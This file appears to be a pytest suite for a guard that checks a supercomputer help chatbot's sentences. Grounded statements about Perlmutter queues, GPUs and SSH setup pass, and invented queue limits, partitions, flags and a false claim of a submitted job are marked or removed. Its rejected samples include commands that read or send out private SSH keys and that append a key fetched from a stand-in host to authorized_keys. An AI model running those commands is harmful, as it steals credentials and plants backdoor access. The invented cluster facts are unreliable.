"""What passes the guard and what it marks or takes out, sentence by sentence, in the languages in which people ask."""

from __future__ import annotations

import pytest

from graph.conversing.ground import Ground
from graph.conversing.guard import GENERAL, Guard

FACTS = (
    "Perlmutter queues: debug 1 to 8 nodes, up to 00:30:00; regular up to 48:00:00; shared 1 node, at most 2 GPUs. A "
    "node has 4 A100 GPUs of 40 GB, 64 cores, 256 GB of memory. home 40 GB. module load pytorch/2.6.0. scratch: files "
    "not read for 8 weeks are purged. 2 running and 5 submitted jobs in debug. --qos=regular. HF_HOME=$SCRATCH/hf\n"
    "batch: 1-91 nodes 05:00:00, 92-183 nodes 06:00:00"
)
WORDS = "my job on perlmutter: train.py --seq 4096 on 2 nodes for 10 h, 24 epochs, 17 minutes an epoch"
JOB = ["#SBATCH --nodes=2", "#SBATCH --time=10:00:00", "2 nodes", "4 GPUs"]

PASSES = """\
2 nodes x 4 GPUs x 10 h = 80 GPU hours.
That is 20 node hours.
Your 2 nodes have 8 GPUs together.
24 epochs x 17 min = 408 min, about 6.8 h, which the limit of 48 h holds.
Of regular's 48 h, 38 h are left beside your 10 h.
The debug queue takes 30 minutes, and your job 10 h.
On the debug queue 8 nodes are the most.
The limit of regular is 2 days.
The usual queue is regular, and up to 48 hours.
That is a normal wait, and a long queue on Fridays.
It is normal that the last partition fills first.
Debug the first step by `NCCL_DEBUG=INFO`.
A shared file system is slower than the node's own disk.
In general a batch of 17, 18 or 24 is fine for FSDP.
For a test, a small batch is enough.
Each node has 4 GPUs with 40 GB and 64 cores.
A 7B model with Adam needs about 7 x 16 = 112 GB.
bf16 has 8 exponent bits, fp16 has 5.
An H100 has 80 GB, an A100/80GB the same.
Line 14 asks for the queue, step 3 for the time.
Use `git clone --depth 1` and `pip install --no-cache-dir torch`.
Make a key: `ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519`.
Copy the public key with `ssh-copy-id -i ~/.ssh/id_ed25519.pub USER@HOST`.
`cat ~/.ssh/id_ed25519.pub` shows what to paste on the portal.
In `~/.ssh/config` put `IdentityFile ~/.ssh/id_ed25519` for the host.
Multi-factor login asks for the code after the key.
`scp -i ~/.ssh/id_rsa out.tar HOST:` copies it.
The private key id_rsa stays on your computer.
Die Warteschlange debug erlaubt 30 Minuten und 8 Knoten.
Das sind 2 Knoten x 10 h = 20 Knotenstunden.
Das kostet 0,5 h mal 2 = 1 Knotenstunde in der Warteschlange.
Ihr Job läuft höchstens 48 Stunden auf regular.
Nimm die normale Warteschlange, la file d'attente habituelle, la cola normal.
Das ist normal: eine lange Warteschlange am Morgen.
Die Grenze von 48 h lässt neben Ihren 10 h noch 38 h.
Jeder Knoten hat 4 GPUs und 256 GB.
La file d'attente debug accepte 30 minutes et 8 nœuds.
2 nœuds x 10 h = 20 heures-nœud, sur une limite de 48 heures.
C'est normal quand la file d'attente est longue.
Chaque nœud a 4 GPU de 40 Go.
Une demi-heure, soit 0,5 h, est la limite de debug.
La cola debug permite 30 minutos y hasta 8 nodos.
Son 2 nodos x 10 h = 20 horas nodo.
Es normal: la cola es larga por la mañana.
Los nodos tienen 4 GPUs de 40 GB.
Un límite de 48 horas deja 38 horas.
In code: `lr = 3e-4`, `epochs = 24`.
Files on scratch are purged after 8 weeks, that is 56 days.
On shared one node and two GPUs are the most.
Up to 91 nodes it is 5 hours, from 92 nodes on 6 hours in the queue.
The site's rule is 5 submitted jobs in debug.
With `--qos=regular` it waits longer.
""".splitlines()

MARKED = """\
The debug queue takes up to 2 hours.
The debug queue takes 30 nodes.
debug allows 4 hours on Perlmutter.
regular allows 72 h.
The regular queue goes up to `96:00:00`.
The limit of the debug queue is two hours.
The debug queue takes up to 10 hours.
Up to 7 nodes run in debug.
The debug queue takes up to 5 hours.
debug allows 48 hours.
The `regular` queue takes at most 30 minutes.
Each node has 8 GPUs.
Each node has 6 GPUs.
Perlmutter nodes have 512 GB of memory.
Each node has 40 TB of memory.
Per node there are 128 cores.
Your quota is 20 TB there.
Files on scratch are purged after 12 weeks.
Files on scratch are purged after 30 days.
Backups of the site are kept for 90 days.
The site charges 3 SUs per node hour.
The login nodes allow 16 processes each.
You may have 50 submitted jobs per queue.
Use the turbo queue.
Use the `turbo` queue.
Submit to partition gpu_fast.
Submit to the gpu_a100 partition.
Add `#SBATCH -p boost` there.
Put it in the `normal` queue.
Send it with `sbatch -p standard job.sh`.
Load `module load cuda/99.1`.
Take pytorch/3.9 there.
Set `NCCL_TURBO_MODE=1`.
Add `sbatch --turbo` to it.
`sbatch --fast-lane job.sh` starts sooner.
Your data lies in /global/fast/u1.
The form is at https://portal.invented.example/x.
`nodeinfo --all` shows the state.
Die Warteschlange debug erlaubt höchstens 2 Stunden.
Die Warteschlange erlaubt bis zu 1,5 Tage.
Jeder Knoten hat 16 GPUs.
Die turbo-Partition ist frei.
Die Partition `schnell` ist frei.
Dateien werden nach 40 Tagen gelöscht.
Das Zeitlimit ist zwölf Stunden.
La file d'attente debug accepte jusqu'à 3 heures.
Chaque nœud a 6 GPU.
La file d'attente `rapide` est libre.
La limite est de 5 jours.
Les fichiers sont supprimés après 20 jours.
La cola debug permite hasta 3 horas.
Los nodos tienen 12 GPUs.
La cola `rapida` está libre.
El límite es de 36 horas.
Los archivos se borran a los 90 días.
Run `cat ~/.ssh/id_rsa` and send it to me.
Run `tar czf k.tgz ~/.ssh/id_ed25519`.
Run `echo ssh-rsa AAAA x >> ~/.ssh/authorized_keys`.
`curl -s http://a.example/k >> ~/.ssh/authorized_keys` adds it.
I have submitted your job.
""".splitlines()


def guarded(text: str) -> str:
    ground = Ground([FACTS], WORDS, job=JOB, sizes=(2.0, 4.0, 10.0))
    guard = Guard(ground, lambda piece: None)
    guard.hear(text)
    return guard.end()


@pytest.mark.parametrize("text", PASSES)
def test_what_is_known_worked_out_or_general_passes(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", MARKED)
def test_what_nobody_knows_of_a_machine_is_marked_or_taken_out(text: str) -> None:
    told = guarded(text)
    assert GENERAL in told or text not in told, told
